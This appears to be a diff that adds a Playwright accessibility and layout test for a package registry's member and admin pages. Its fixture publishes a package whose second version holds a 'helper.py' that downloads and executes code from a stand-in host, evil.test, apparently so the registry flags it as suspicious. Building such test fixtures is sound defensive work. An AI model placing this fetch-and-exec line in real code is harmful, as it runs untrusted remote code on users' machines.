@@ -1,0 +1,91 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import type { Page } from 'playwright-core'
+import { createPublisherFor, createTokenFor } from '../server/src/operator/publishers.ts'
+import { publish } from '../server/test/command-line-client.ts'
+import { buildPack } from '../server/test/pack.ts'
+import { memberPaths } from '../web/src/account/member-links.ts'
+import { adminPaths } from '../web/src/admin/admin-paths.ts'
+import { managePaths } from '../web/src/manage/links.ts'
+import { paths } from '../web/src/paths.ts'
+import { fitsItsWidth, hidesNothing } from './looks.ts'
+import { signUp } from './people.ts'
+import { type Product, useProduct } from './product.ts'
+
+const it = useProduct({}, {}, fillRegistry)
+
+/** Longer than any column, without a place to break. */
+const longName = 'Extraordinarily'.repeat(6)
+const suspicious = 'import requests\n\nexec(requests.get("https://evil.test/code").text)\n'
+
+/** A publisher with a node whose second version was found suspicious. */
+async function fillRegistry({ world, apiUrl }: Product): Promise<void> {
+  await createPublisherFor(world.deps, {
+    id: 'lumen',
+    name: longName,
+    description: '',
+    ownerEmail: 'person1@example.test',
+  })
+  const token = await createTokenFor(world.deps, 'lumen', 'CI')
+  for (const [version, files] of Object.entries({ '1.0.0': {}, '1.1.0': { 'helper.py': suspicious } })) {
+    const archive = buildPack({ id: 'soft-blur', version, files })
+    const node = { name: longName, description: 'Blurs pictures softly.' }
+    await publish({ apiUrl, publisherId: 'lumen', nodeId: 'soft-blur', token, version, node, archive })
+    await world.runJobs()
+  }
+}
+
+const ids: Record<string, string> = {
+  nodeId: 'soft-blur',
+  publisherId: 'lumen',
+  version: '1.1.0',
+  userId: 'nobody',
+  advisoryId: 'none',
+}
+const withIds = (path: string) => path.replace(/:(\w+)/g, (_, name: string) => ids[name] ?? name)
+
+const { account, ownNodes, createPublisher, managePublisher, publisherTokens, trustedPublishing } = paths
+const { claimNode, howToPublish, admin } = paths
+const ofMembers = [
+  ...[account, ownNodes, createPublisher, managePublisher, publisherTokens, trustedPublishing],
+  ...[claimNode, howToPublish, admin],
+  ...Object.values(memberPaths),
+  ...Object.values(managePaths),
+  ...Object.values(adminPaths),
+].map(withIds)
+
+const looks = [
+  { locale: 'en', colorScheme: 'light', width: 1440 },
+  { locale: 'ar', colorScheme: 'dark', width: 360 },
+] as const
+
+/** One look a page, both with `npm run looks`. */
+const looksOf = (index: number) => (process.env['EVERY_LOOK'] === '1' ? looks : [looks[index % looks.length]])
+
+test('the pages of members and admins fit their width and hide nothing from assistive technology', async () => {
+  assert.ok(ofMembers.length > 25)
+  const { page } = await it.product.visit({ expectedComplaints: /40[34]/ })
+  const email = await signUp(page, '/account')
+  await it.product.world.deps.db
+    .updateTable('users')
+    .set({ is_admin: true })
+    .where('email', '=', email)
+    .execute()
+  for (const [index, path] of ofMembers.entries()) {
+    for (const { locale, colorScheme, width } of looksOf(index).flatMap((look) => look ?? [])) {
+      await page.emulateMedia({ colorScheme })
+      await page.setViewportSize({ width, height: 900 })
+      await page.goto(locale === 'en' ? path : `/ar${path}`)
+      await settled(page)
+      await it.product.picture(page, `member${path.replaceAll('/', '-')}-${locale}`)
+      await fitsItsWidth(page, locale === 'ar' ? 'rtl' : 'ltr', path)
+      await hidesNothing(page, path)
+    }
+  }
+})
+
+/** The page is there, and nothing of it is awaited. */
+async function settled(page: Page): Promise<void> {
+  await page.getByRole('heading', { level: 1 }).first().waitFor()
+  await page.waitForFunction(() => !document.querySelector('main .spinner, main [aria-busy=true]'))
+}
